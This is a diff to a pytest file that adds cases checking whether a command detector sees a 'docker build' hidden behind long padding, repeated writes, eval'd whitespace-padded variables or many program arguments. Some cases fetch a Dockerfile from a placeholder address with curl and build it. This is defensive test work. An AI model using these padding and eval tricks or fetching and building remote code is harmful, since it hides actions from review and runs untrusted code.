@@ -137,12 +137,23 @@ WRITES = [f"echo a > f{number};" for number in range(1000)]
     [
         ("".join(WRITES[:500]) + "curl http://203.0.113.5/x -o Dockerfile; docker build .", _PIPED),
         ("".join(WRITES) + "curl http://203.0.113.5/x -o Dockerfile; docker build .", _CUT),
+        (f"cat {'a ' * 60}/tmp/x/Dockerfile | docker build -", _TEMP),
+        (f"cat {'a ' * 90}/tmp/x/Dockerfile | docker build -", _CUT),
         (f"X='{' ' * 9_000}cd /tmp/x; docker build .'; eval \"$X\"", _CUT),
         (f"X='{' ' * 5_000}cd /tmp/x; docker build .'; eval $X", _TEMP),
         ('python3 -c "' + "os.system('a b');" * 90 + f"os.system('{BUILD}')\"", _TEMP),
         ("hyperfine " + "'sleep 1' " * 40 + f"'{BUILD}'", _TEMP),
     ],
-    ids=["files", "too many files", "too long", "a variable", "program text", "texts"],
+    ids=[
+        "files",
+        "too many files",
+        "inputs",
+        "too many inputs",
+        "too long",
+        "a variable",
+        "program text",
+        "texts",
+    ],
 )
 def test_no_number_of_things_in_front_hides_a_build(line: str, signal: str) -> None:
     """What is written, set or started before it: it is read all the same, or that is told."""
